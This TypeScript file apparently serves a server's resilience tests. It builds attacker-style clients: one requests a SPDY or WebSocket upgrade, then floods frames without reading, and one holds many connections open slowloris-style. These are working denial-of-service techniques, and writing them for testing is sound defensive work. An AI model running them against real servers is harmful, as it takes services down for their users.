// Clients built as an attacker builds them: one that asks for an upgrade and then writes frames
// without ever reading what they provoke, and one that only holds connections open.
import { randomBytes } from 'node:crypto';
import net from 'node:net';

export type Upgrade = { to: 'spdy'; protocols: readonly string[] } | { to: 'websocket'; protocol: string };

function upgradeRequest(u: URL, up: Upgrade): string {
  const lines =
    up.to === 'spdy'
      ? [`POST ${u.pathname} HTTP/1.1`, 'Connection: Upgrade', 'Upgrade: SPDY/3.1', ...up.protocols.map((p) => `X-Stream-Protocol-Version: ${p}`)]
      : [
          `GET ${u.pathname}${u.search} HTTP/1.1`,
          'Connection: Upgrade',
          'Upgrade: websocket',
          'Sec-WebSocket-Version: 13',
          `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
          `Sec-WebSocket-Protocol: ${up.protocol}`,
        ];
  return `${[...lines, `Host: ${u.host}`].join('\r\n')}\r\n\r\n`;
}

/** A masked WebSocket PING (clients must mask) carrying the most a control frame may: 125 bytes. */
export function webSocketPing(): Buffer {
  const mask = randomBytes(4);
  const payload = Buffer.alloc(125, 0x70);
  for (let i = 0; i < payload.length; i++) payload[i] = (payload[i] ?? 0) ^ (mask[i % 4] ?? 0);
  return Buffer.concat([Buffer.from([0x89, 0x80 | 125]), mask, payload]);
}

/**
 * Asks for an upgrade on `url` and, without waiting for the answer or ever reading, writes `unit`
 * over and over (up to `total` bytes, as fast as the server takes them). Resolves with how much it
 * wrote and whether the server hung up first; the socket is left as it is, for the caller to end.
 */
export async function floodWithoutReading(
  url: string,
  up: Upgrade,
  unit: Buffer,
  total: number,
): Promise<{ written: number; closedByServer: boolean; socket: net.Socket }> {
  const u = new URL(url);
  const socket = net.connect({ host: u.hostname, port: Number(u.port) });
  socket.pause(); // never reads: what the server sends fills the kernel's buffers, then the server's
  socket.on('error', () => undefined);
  await new Promise<void>((resolve, reject) => socket.once('connect', resolve).once('error', reject));
  let closed = false;
  socket.once('close', () => (closed = true));
  socket.write(upgradeRequest(u, up));
  const chunk = Buffer.concat(Array.from({ length: Math.max(1, Math.floor((64 * 1024) / unit.length)) }, () => unit));
  let written = 0;
  while (written < total && !closed) {
    const more = socket.write(chunk);
    written += chunk.length;
    if (!more) await new Promise<void>((resolve) => (closed ? resolve() : socket.once('drain', resolve).once('close', resolve)));
  }
  return { written, closedByServer: closed, socket };
}

/**
 * Opens `count` connections to host:port and holds them, sending nothing (or, with `trickle`, a
 * byte of a request line now and then, as slowloris does). Returns them, for the caller to destroy.
 */
export async function holdConnections(host: string, port: number, count: number, trickle = false): Promise<net.Socket[]> {
  const held: net.Socket[] = [];
  for (let i = 0; i < count; i++) {
    const s = net.connect({ host, port });
    s.on('error', () => undefined);
    await new Promise<void>((resolve) =>
      s
        .once('connect', () => resolve())
        .once('error', () => resolve())
        .once('close', () => resolve()),
    );
    if (trickle && !s.destroyed) s.write('G');
    held.push(s);
  }
  return held;
}
